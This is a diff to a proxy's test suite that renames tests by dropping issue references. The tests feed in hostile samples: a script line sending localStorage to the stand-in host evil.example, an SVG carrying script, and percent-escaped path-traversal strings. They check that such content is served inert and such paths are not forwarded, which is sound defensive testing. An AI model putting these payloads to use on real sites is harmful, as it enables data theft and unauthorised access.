@@ -113,7 +113,7 @@ describe('proxy mode', () => {
     [200, 'application/javascript', 'fetch("https://evil.example/?" + JSON.stringify(localStorage))'],
     [500, 'text/plain', 'upstream broke'],
     [200, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
-  ])('status %i with %s from the service: the text comes back as an inert download, never a page or a script (issue 23 #2)', async (status, contentType, text) => {
+  ])('status %i with %s from the service: the text comes back as an inert download, never a page or a script', async (status, contentType, text) => {
     reply = { status, contentType, body: text };
     const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
     expect([result.status, result.text]).toEqual([status, text]);
@@ -136,7 +136,7 @@ describe('proxy mode', () => {
     expect((await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' })).headers.get('www-authenticate')).toBe('Token');
   });
 
-  test('an answer over the cap is a 502, not held in memory whole (issue 23 #11), with or without a Content-Length', async () => {
+  test('an answer over the cap is a 502, not held in memory whole, with or without a Content-Length', async () => {
     const path = orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962');
     reply = { status: 200, contentType: 'application/json', body: '', streamBytes: MAX_PROXIED_ANSWER_BYTES + 2 * 1024 * 1024 };
     const streamed = await call(proxy.url, 'GET', path, { token: 't' });
@@ -148,7 +148,7 @@ describe('proxy mode', () => {
     expect((await call(proxy.url, 'GET', path, { token: 't' })).status).toBe(200);
   });
 
-  test('a path hiding a separator or a dot segment in percent-escapes is not forwarded (issue 23)', async () => {
+  test('a path hiding a separator or a dot segment in percent-escapes is not forwarded', async () => {
     const count = seen.length;
     for (const path of ['/psp/v2/order/..%2f..%2fadmin/', '/psp/v2/order/%2e%2e/%2e%2e/admin', '/psp/v2/order/..%5Cadmin', '/psp/v2/%2E%2E%2Fadmin', '/psp/v2/order/x%00/']) {
       const result = await new Promise<number>((resolve, reject) => {
